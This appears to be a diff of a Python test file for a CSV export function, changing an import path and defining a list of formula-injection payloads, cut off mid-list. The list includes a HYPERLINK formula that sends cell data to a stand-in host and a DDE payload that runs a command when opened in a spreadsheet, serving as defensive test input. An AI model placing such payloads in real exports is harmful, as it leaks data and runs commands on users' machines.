@@ -10,7 +10,7 @@ from urllib.parse import quote
 import pytest
 from fastapi.testclient import TestClient
 
-from api.views import csv_cell
+from ccpulse.readmodel.views import csv_cell
 from tests.api.conftest import T0, interval
 
 EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
